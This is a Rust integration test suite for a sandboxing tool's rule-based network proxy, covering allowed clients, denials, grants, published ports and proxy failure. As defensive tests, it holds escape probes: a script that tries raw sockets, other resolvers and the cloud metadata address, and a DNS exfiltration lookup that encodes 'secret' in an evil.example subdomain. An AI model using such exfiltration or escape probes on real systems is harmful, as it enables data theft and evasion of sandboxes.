//! A cage whose network follows rules: real clients reach what is allowed and nothing else, at once, and the user is told what would allow it.
//! The servers are on the host's loopback, reached through the upstream override of the user's policy.
#![allow(clippy::unwrap_used, clippy::panic)]

#[path = "support/session.rs"]
mod session;
mod support;
#[path = "support/upstream.rs"]
mod upstream;

use session::Session;
use std::process::{Command, Output};
use support::{Stage, eventually, keyward, processes_with, refused, stderr, stdout};
use upstream::Upstream;

/// A TLS server for api.example.test and other.example.test; each answer says the method, the host and the path.
const SERVER: &str = r#"
import http.server, ssl, sys, threading
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        text = ("%s %s %s\n" % (self.command, self.headers["Host"], self.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)
    do_GET = do_POST = do_PUT = answer
    def log_message(self, *_): pass
tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[1] + "/server.pem", sys.argv[1] + "/server.key")
tls.socket = context.wrap_socket(tls.socket, server_side=True)
open(sys.argv[1] + "/port", "w").write(str(tls.server_address[1]))
print("ready", flush=True)
tls.serve_forever()
"#;

fn upstream() -> Upstream {
    Upstream::new(SERVER, &["api.example.test", "other.example.test"])
}

/// Reads the request of a client in each way that clients read certificates; none of them is told of a proxy.
const CLIENTS: &[&str] = &[
    "curl -sS https://api.example.test/a",
    "wget -qO- https://api.example.test/a",
    "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"https://api.example.test/a\").read().decode(), end=\"\")'",
    "node -e 'fetch(\"https://api.example.test/a\").then(r => r.text()).then(t => process.stdout.write(t))'",
    "curl -sS --noproxy '' --proxy http://198.18.0.1:3128 https://api.example.test/a",
];

#[test]
fn real_clients_reach_a_host_whose_requests_are_read() {
    let upstream = upstream();
    let stage = upstream.stage();
    for client in CLIENTS {
        let output = stage.caged_with(&["--allow-net", "GET api.example.test/a*"], client);
        assert_eq!(stdout(&output), "GET api.example.test /a\n", "{client}: {}", stderr(&output));
    }
}

/// Java reads a keystore of its own, and a program of Go is static and asks the resolver itself.
#[test]
fn programs_with_a_keystore_or_without_a_c_library_are_served_as_well() {
    let upstream = upstream();
    let stage = upstream.stage();
    let java = "import java.net.URI; import java.net.http.*;\n\
        public class Get { public static void main(String[] a) throws Exception { System.out.print(HttpClient.newHttpClient().send(\
        HttpRequest.newBuilder(URI.create(\"https://api.example.test/a\")).build(), HttpResponse.BodyHandlers.ofString()).body()); } }\n";
    stage.project_file("Get.java", java);
    let go = "package main\nimport (\"io\"; \"net/http\"; \"os\")\n\
        func main() { r, e := http.Get(\"https://api.example.test/a\"); if e != nil { panic(e) }; io.Copy(os.Stdout, r.Body) }\n";
    let source = stage.project_file("get.go", go);
    let built = Command::new("go")
        .env("GO111MODULE", "off")
        .env("CGO_ENABLED", "0")
        .args(["build", "-o"])
        .arg(stage.project().join("get"))
        .arg(source)
        .output()
        .unwrap();
    assert!(built.status.success(), "{}", stderr(&built));
    stage.own(&stage.project().join("get"));
    for client in ["java Get.java", "./get"] {
        let output = stage.caged_with(&["--allow-net", "GET api.example.test/a*"], client);
        assert_eq!(stdout(&output), "GET api.example.test /a\n", "{client}: {}", stderr(&output));
    }
}

/// Since version 18 Java has its certificates in another format. The one that `JAVA_HOME` names gets ours as well.
#[test]
fn a_java_of_ones_own_with_a_newer_keystore_is_served_as_well() {
    let upstream = upstream();
    let stage = upstream.stage();
    let java = "import java.net.URI; import java.net.http.*;\n\
        public class Get { public static void main(String[] a) throws Exception { System.out.print(HttpClient.newHttpClient().send(\
        HttpRequest.newBuilder(URI.create(\"https://api.example.test/a\")).build(), HttpResponse.BodyHandlers.ofString()).body()); } }\n";
    stage.project_file("Get.java", java);
    let home = stage.project().join("jdk");
    let keystore = home.join("lib/security/cacerts");
    std::fs::create_dir_all(keystore.parent().unwrap()).unwrap();
    let certificate = upstream.folder.path().join("server.pem");
    // Without encryption and without a digest, as the JDK has it.
    let made = Command::new("keytool")
        .args(["-importcert", "-noprompt", "-alias", "some-root", "-storepass", "changeit", "-file"])
        .arg(&certificate)
        .args(["-storetype", "PKCS12", "-J-Dkeystore.pkcs12.certProtectionAlgorithm=NONE"])
        .args(["-J-Dkeystore.pkcs12.macAlgorithm=NONE", "-keystore"])
        .arg(&keystore)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}{}", stdout(&made), stderr(&made));
    stage.own(&home);
    let client = format!("java -Djavax.net.ssl.trustStore='{}' Get.java", keystore.display());
    let run = |name: &str| {
        let flags = ["--allow-net", "GET api.example.test/a*"];
        stage.keyward_run(&flags, &["sh", "-c", &client]).env(name, &home).output().unwrap()
    };
    let output = run("JAVA_HOME");
    assert_eq!(stdout(&output), "GET api.example.test /a\n", "{}", stderr(&output));
    // The control: a keystore that nothing names is as it was, and does not know our certificate.
    let output = run("OTHER_HOME");
    assert!(stderr(&output).contains("PKIX path"), "{}", stderr(&output));
}

#[test]
fn a_host_without_method_or_path_is_passed_on_with_its_own_certificate() {
    let upstream = upstream();
    let stage = upstream.stage();
    let ca = std::fs::read_to_string(upstream.folder.path().join("authority.pem")).unwrap();
    stage.project_file("ca.crt", &ca);
    let output = stage.caged_with(
        &["--allow-net", "api.example.test"],
        "curl -sS --cacert ca.crt https://api.example.test/x; curl -sS https://api.example.test/x; echo $?",
    );
    // Nothing of Keyward's is trusted here, and the server's own is not in the host's roots.
    assert_eq!(stdout(&output), "GET api.example.test /x\n60\n", "{}", stderr(&output));
}

#[test]
fn what_no_rule_allows_is_refused_and_the_flag_is_told() {
    let upstream = upstream();
    let stage = upstream.stage();
    let output = stage.caged_with(
        &["--allow-net", "GET api.example.test/a"],
        "curl -s -o answer -w '%{http_code} ' -d x https://api.example.test/a; cat answer; \
         curl -s https://other.example.test/; echo $?",
    );
    let (said, told) = (stdout(&output), stderr(&output));
    assert!(said.starts_with("403 ") && said.ends_with("6\n"), "{said}");
    assert!(said.contains("--allow-net 'POST api.example.test/a'"), "{said}");
    assert!(told.contains("to allow it, add --allow-net 'POST api.example.test/a'\n"), "{told}");
    assert!(told.contains("network: denied other.example.test: no rule allows this host\n"), "{told}");
    // What is told allows it.
    let output = stage.caged_with(
        &["--allow-net", "POST api.example.test/a", "--json"],
        "curl -s -d x https://api.example.test/a",
    );
    assert_eq!(stdout(&output), "POST api.example.test /a\n", "{}", stderr(&output));
    assert!(!stderr(&output).contains("\"denied\""), "nothing was denied: {}", stderr(&output));
}

#[test]
fn the_outcome_the_record_and_why_say_the_same() {
    let upstream = upstream();
    let stage = upstream.stage();
    let output = stage.caged_with(
        &["--allow-net", "GET api.example.test/a", "--json"],
        "curl -s https://api.example.test/a; curl -s https://other.example.test/; true",
    );
    let outcome: serde_json::Value = serde_json::from_str(stderr(&output).lines().last().unwrap()).unwrap();
    assert_eq!(outcome["network"]["denied"][0]["flag"], "--allow-net other.example.test");
    let log = stage.command(keyward()).args(["log", "--net"]).output().unwrap();
    assert!(
        stdout(&log).contains("net-connected") && stdout(&log).contains("net-denied"),
        "{}",
        stdout(&log)
    );
    let log = stage.command(keyward()).args(["log", "--net", "--denied"]).output().unwrap();
    assert!(!stdout(&log).contains("net-connected") && stdout(&log).contains("other.example.test"));
    let why = |host: &str| {
        let asked = ["why", "net", host, "--allow-net", "GET api.example.test/a"];
        stdout(&stage.command(keyward()).args(asked).output().unwrap())
    };
    assert!(why("api.example.test/a").contains("can be reached"), "{}", why("api.example.test/a"));
    assert!(why("other.example.test").contains("to change it: `--allow-net other.example.test`"));
    assert!(why("POST api.example.test/a").contains("cannot be reached"));
}

/// Each of these prints `WORKED` where it gets through, and the time it took where that is long.
const WAYS_OUT: &str = r#"
import errno, socket, sys, time
V4, V6 = socket.AF_INET, socket.AF_INET6
def way(name, act):
    begun = time.time()
    try:
        act()
        print("WORKED", name)
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, error.errno))
    # A resolver or a firewall that drops packets takes seconds.
    if time.time() - begun > 1.5:
        print("SLOW", name)
def udp(family, host, port, connected):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((host, port)) if connected else None
    s.send(b"x") if connected else s.sendto(b"x", (host, port))
def tcp(family, host, port, protocol=0):
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(5)
    s.connect((host, port))
for connected in (False, True):
    way("quic", lambda: udp(V4, "192.0.2.1", 443, connected))
    way("udp", lambda: udp(V4, "198.18.1.0", 443, connected))
    way("another resolver", lambda: udp(V4, "192.0.2.53", 53, connected))
    way("udp6", lambda: udp(V6, "2001:db8::1", 443, connected))
    way("mapped", lambda: udp(V6, "::ffff:192.0.2.1", 443, connected))
    way("multicast", lambda: udp(V4, "224.0.0.251", 5353, connected))
way("literal", lambda: tcp(V4, "192.0.2.1", 443))
way("metadata", lambda: tcp(V4, "169.254.169.254", 80))
way("literal6", lambda: tcp(V6, "2001:db8::1", 443))
way("another port", lambda: tcp(V4, "198.18.1.0", 22))
way("mptcp", lambda: tcp(V4, "192.0.2.1", 443, 262))
way("sctp", lambda: socket.socket(V4, socket.SOCK_STREAM, 132))
way("udplite", lambda: socket.socket(V4, socket.SOCK_DGRAM, 136).sendto(b"x", ("192.0.2.1", 443)))
way("icmp", lambda: socket.socket(V4, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\0\0\0", ("192.0.2.1", 0)))
way("raw", lambda: socket.socket(V4, socket.SOCK_RAW, 1))
way("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
way("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
way("transparent", lambda: socket.socket().setsockopt(socket.SOL_IP, 19, 1))
"#;

#[test]
fn every_other_way_out_fails_at_once_with_an_errno() {
    let upstream = upstream();
    let stage = upstream.stage();
    stage.python("ways.py", WAYS_OUT);
    let output = stage.caged_with(&["--allow-net", "api.example.test"], "python3 ways.py");
    let said = stdout(&output);
    assert!(said.contains("raw EPERM") && said.contains("quic EACCES"), "{said}{}", stderr(&output));
    assert!(!said.contains("WORKED") && !said.contains("SLOW"), "{said}");
    // The control: on the host a packet is sent.
    let control = "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", 9)); print(\"WORKED\")'";
    assert!(stdout(&stage.bare(control)).contains("WORKED"));
}

#[test]
fn the_cages_own_servers_keep_working() {
    let upstream = upstream();
    let stage = upstream.stage();
    let script = r#"
import socket, threading
for family, address, kinds in ((socket.AF_INET, "127.0.0.1", 2), (socket.AF_INET6, "::1", 2), (socket.AF_INET, "0.0.0.0", 1)):
    server = socket.socket(family); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); server.bind((address, 8080)); server.listen()
    client = socket.create_connection(("127.0.0.1" if address == "0.0.0.0" else address, 8080))
    server.accept()[0].send(b"tcp"); assert client.recv(9) == b"tcp"
    server.close(); client.close()
    server = socket.socket(family, socket.SOCK_DGRAM); server.bind((address, 8080)); server.settimeout(5)
    client = socket.socket(family, socket.SOCK_DGRAM); client.settimeout(5)
    client.sendto(b"q", ("127.0.0.1" if address == "0.0.0.0" else address, 8080))
    server.sendto(b"udp", server.recvfrom(9)[1]); assert client.recv(9) == b"udp"
    server.close()
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    for port in 22, 80, 443:
        server = socket.socket(family); server.bind((address, port)); server.listen()
        client = socket.create_connection((address, port)); server.accept()[0].send(b"low"); assert client.recv(9) == b"low"
unix = socket.socket(socket.AF_UNIX); unix.bind("\0x"); unix.listen(); socket.socket(socket.AF_UNIX).connect("\0x")
print("WORKED")
"#;
    stage.python("own.py", script);
    for flags in [&["--allow-net", "api.example.test"][..], &["--net", "none"]] {
        let output = stage.caged_with(flags, "python3 own.py");
        assert_eq!(stdout(&output), "WORKED\n", "{flags:?}: {}", stderr(&output));
    }
}

#[test]
fn names_carry_nothing_out_and_are_answered_at_once() {
    let upstream = upstream();
    let stage = upstream.stage();
    let output = stage.caged_with(
        &["--allow-net", "api.example.test"],
        "getent ahosts api.example.test | cut -d' ' -f1 | sort -u; getent hosts c2VjcmV0.evil.example; echo $?",
    );
    let said = stdout(&output);
    assert!(said.contains("198.18.1.0\n") && said.ends_with("2\n"), "{said}{}", stderr(&output));
}

#[test]
fn plain_tcp_reaches_the_one_port_that_a_rule_names() {
    let stage = Stage::user();
    let echo = "import socket\ns = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen()\n\
        open(\"port\", \"w\").write(str(s.getsockname()[1])); print(\"ready\", flush=True)\n\
        while True:\n    c, _ = s.accept(); c.send(b\"hello \" + c.recv(99)); c.close()\n";
    stage.python("echo.py", echo);
    let _server = stage.beside_and_ready(stage.command("python3").arg("echo.py"));
    let port = std::fs::read_to_string(stage.project().join("port")).unwrap();
    stage.home_file(
        ".config/keyward/policy.toml",
        &format!("version = 1\n[net.upstream.\"db.example.test\"]\naddress = \"127.0.0.1:{port}\"\n"),
    );
    let client = |at: &str| {
        format!(
            "python3 -c 'import socket; s = socket.create_connection({at}); s.send(b\"you\"); print(s.recv(99).decode())'"
        )
    };
    let by_name = client("(\"db.example.test\", 5432)");
    let output = stage.caged_with(&["--allow-net", "tcp://db.example.test:5432"], &by_name);
    assert_eq!(stdout(&output), "hello you\n", "{}", stderr(&output));
    // A port of this machine, at the cage's own loopback and by name.
    for at in [format!("(\"127.0.0.1\", {port})"), format!("(\"host.keyward.internal\", {port})")] {
        let output = stage.caged_with(&["--reach", &port], &client(&at));
        assert_eq!(stdout(&output), "hello you\n", "{at} {}", stderr(&output));
        let output = stage.caged(&client(&at));
        assert!(!stdout(&output).contains("hello"), "without the flag it is not there");
    }
}

#[test]
fn a_port_of_the_cage_is_published() {
    let stage = Stage::user();
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port().to_string();
    stage.project_file("page.txt", "a page of the cage\n");
    let server = format!("echo started; exec python3 -m http.server {free} --bind 127.0.0.1 2>/dev/null");
    let running =
        stage.beside_and_ready(&mut stage.keyward_run(&["--publish", &free], &["sh", "-c", &server]));
    let get = || {
        stdout(
            &Command::new("curl")
                .args(["-s", &format!("http://127.0.0.1:{free}/page.txt")])
                .output()
                .unwrap(),
        )
    };
    assert!(eventually(|| get() == "a page of the cage\n"));
    // A port that is taken is refused before anything starts.
    let output = stage.caged_with(&["--publish", &free], "true");
    assert!(
        stderr(&output).contains(&format!("cannot publish port {free} of this machine")),
        "{}",
        stderr(&output)
    );
    drop(running);
    assert!(eventually(|| get().is_empty()), "nothing outlives the launcher");
}

#[test]
fn a_session_has_one_proxy_and_is_allowed_more_while_it_runs() {
    let upstream = upstream();
    let session = Session { stage: upstream.stage(), name: "work".into() };
    session.start(&["--allow-net", "GET api.example.test/a"]);
    assert_eq!(session.said("curl -sS https://api.example.test/a"), "GET api.example.test /a\n");
    let denied = session.exec(&[], "curl -sS https://other.example.test/b");
    assert!(stderr(&denied).contains("denied other.example.test"), "{}", stderr(&denied));
    let fresh = session.exec(&["--fresh"], "curl -sS https://api.example.test/a");
    assert_eq!(stdout(&fresh), "GET api.example.test /a\n", "{}", stderr(&fresh));
    let granted =
        session.keyward(&["grant", "net", "GET other.example.test/b", "--for", "1h", "--session", "work"]);
    assert!(granted.status.success(), "{}", stderr(&granted));
    assert!(eventually(|| {
        stdout(&session.exec(&[], "curl -sS https://other.example.test/b")) == "GET other.example.test /b\n"
    }));
    // From inside, nothing is granted.
    let inside = session.exec(&[], &format!("{} grant net evil.example --for 1h 2>&1", keyward()));
    assert!(!inside.status.success(), "{}", stdout(&inside));
}

#[test]
fn without_its_proxy_every_connection_fails_and_the_user_is_told() {
    let upstream = upstream();
    let stage = upstream.stage();
    let script = "curl -sS https://api.example.test/a && touch reached && \
        until [ -e killed ]; do sleep 0.05; done; curl -sS --max-time 60 https://api.example.test/a; echo $?";
    let mut running = stage.keyward_run(&["--allow-net", "GET api.example.test/a"], &["sh", "-c", script]);
    running.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let child = running.spawn().unwrap();
    assert!(eventually(|| stage.project().join("reached").exists()));
    let of_launcher = |pid: &u32| support::parent_of(*pid) == Some(child.id());
    let proxy = processes_with("keyward:proxy").into_iter().find(of_launcher).expect("a proxy");
    assert!(Command::new("kill").args(["-9", &proxy.to_string()]).status().unwrap().success());
    stage.project_file("killed", "");
    let output = child.wait_with_output().unwrap();
    let said = stdout(&output);
    assert!(said.starts_with("GET api.example.test /a\n") && said.ends_with("\n6\n"), "{said}");
    assert!(stderr(&output).contains("network: the proxy has ended"), "{}", stderr(&output));
}

#[test]
fn the_proxy_ends_with_its_launcher() {
    let upstream = upstream();
    let stage = upstream.stage();
    let running = stage.beside_and_ready(
        &mut stage.keyward_run(&["--allow-net", "api.example.test"], &["sh", "-c", "echo ready; sleep 600"]),
    );
    let of = |launcher: u32| {
        let own = move |pid: &u32| support::parent_of(*pid) == Some(launcher);
        processes_with("keyward:proxy").into_iter().find(own)
    };
    let proxy = of(running.pid()).expect("a proxy");
    drop(running);
    assert!(eventually(|| !processes_with("keyward:proxy").contains(&proxy)));
}

#[test]
fn flags_that_exclude_each_other_are_refused() {
    let stage = Stage::user();
    for (flags, words) in [
        (&["--net", "open", "--allow-net", "npm"][..], "exclude each other"),
        (&["--allow-net", "htps://x"], "--allow-net"),
        (&["--allow-net", "127.0.0.1:80"], "--reach PORT"),
        (&["--net", "open", "--publish", "3000"], "leave out `--publish`"),
    ] {
        let output = stage.caged_with(flags, "echo ran");
        assert!(
            stderr(&output).contains(words) && stdout(&output).is_empty(),
            "{flags:?} {}",
            stderr(&output)
        );
    }
    // A project can only narrow.
    stage.project_file(".keyward.toml", "version = 1\n[net]\nreach = [5432]\n");
    refused(stage.caged("true"), 120, "the project file may only narrow");
    stage.project_file(".keyward.toml", "version = 1\n[net]\nallow = [\"evil.example\"]\n");
    let why =
        stage.command(keyward()).args(["why", "net", "evil.example"]).current_dir(stage.project()).output();
    assert!(stdout(&why.unwrap()).contains("cannot be reached: the cage has no network"));
}

#[test]
fn doctor_says_whether_rules_work_here() {
    let stage = Stage::user();
    let said = |program: &std::path::Path| {
        let words = stdout(&stage.command(program).arg("doctor").output().unwrap());
        let json = stdout(&stage.command(program).args(["doctor", "--json"]).output().unwrap());
        (words, serde_json::from_str::<serde_json::Value>(&json).unwrap()["network_rules"].clone())
    };
    let (words, json) = said(keyward().as_ref());
    assert!(words.contains("network rules: available; the proxy starts\n"), "{words}");
    assert_eq!(json, serde_json::json!({ "available": true, "trouble": null }));
    // A certificate that is not there stops each such run, and so it does here.
    let file =
        stage.home_file(".config/keyward/policy.toml", "version = 1\nnet.ca = [\"/nowhere/ca.pem\"]\n");
    let (words, json) = said(keyward().as_ref());
    assert!(
        words.contains("network rules: not available: cannot read the certificate /nowhere/ca.pem"),
        "{words}"
    );
    assert_eq!(json["available"], false);
    let output = stage.caged_with(&["--net", "rules"], "true");
    assert!(stderr(&output).contains("cannot read the certificate /nowhere/ca.pem"), "{}", stderr(&output));
    std::fs::remove_file(file).unwrap();
    // A launcher without the second program.
    let alone = stage.elsewhere().join("keyward");
    std::fs::copy(keyward(), &alone).unwrap();
    let (words, json) = said(&alone);
    assert!(words.contains("network rules: not available: cannot start "), "{words}");
    assert_eq!(json["available"], false);
}

/// The proxy of a session: its first cage's launcher has started it.
fn proxy_of(session: &Session) -> u32 {
    let session = session.pid();
    let is_own = |process: &u32| {
        let mut above = support::parent_of(*process);
        for _ in 0..3 {
            if above == Some(session) {
                return true;
            }
            above = above.and_then(support::parent_of);
        }
        false
    };
    let found: Vec<u32> = processes_with("keyward:proxy").into_iter().filter(is_own).collect();
    assert_eq!(found.len(), 1, "{found:?}");
    found[0]
}

fn granted(session: &Session, rule: &str) -> Output {
    session.keyward(&["grant", "net", rule, "--for", "1h", "--session", &session.name])
}

fn signal(process: u32, signal: &str) {
    assert!(Command::new("kill").args([signal, &process.to_string()]).status().unwrap().success());
}

/// A yes means that the proxy has confirmed.
#[test]
fn a_grant_at_a_proxy_that_is_dead_is_refused() {
    let upstream = upstream();
    let session = Session { stage: upstream.stage(), name: "grants-dead".into() };
    session.start(&["--net", "rules"]);
    let control = granted(&session, "api.example.test/*");
    assert!(control.status.success(), "the control: {}", stderr(&control));
    signal(proxy_of(&session), "-KILL");
    let output = granted(&session, "api.example.test/*");
    assert!(!output.status.success(), "{}", stdout(&output));
    assert!(stderr(&output).contains("the proxy of the network has ended"), "{}", stderr(&output));
    assert!(stderr(&output).contains("start another session"), "{}", stderr(&output));
    // Nothing is reached, and the session still answers.
    let tried = session.exec(&[], "curl -sS -m 5 https://api.example.test/a");
    assert!(!tried.status.success(), "{}", stdout(&tried));
    assert_eq!(session.said("echo there"), "there\n");
}

#[test]
fn a_grant_at_a_proxy_that_is_stopped_says_so_and_does_not_hold_later() {
    let upstream = upstream();
    let session = Session { stage: upstream.stage(), name: "grants-stopped".into() };
    session.start(&["--allow-net", "api.example.test/*"]);
    let proxy = proxy_of(&session);
    signal(proxy, "-STOP");
    let output = granted(&session, "other.example.test/*");
    assert!(!output.status.success(), "{}", stdout(&output));
    let told = stderr(&output);
    assert!(told.contains("the proxy of this session is stopped, so nothing was granted"), "{told}");
    assert!(told.contains(&format!("kill -CONT {proxy}")) && told.lines().count() == 2, "{told}");
    assert_eq!(session.said("echo there"), "there\n");
    signal(proxy, "-CONT");
    assert_eq!(session.said("curl -sS https://api.example.test/a"), "GET api.example.test /a\n");
    let other = "curl -sS https://other.example.test/b";
    assert!(eventually(|| stderr(&session.exec(&[], other)).contains("denied other.example.test")));
    let output = granted(&session, "other.example.test/*");
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(session.said(other), "GET other.example.test /b\n");
}
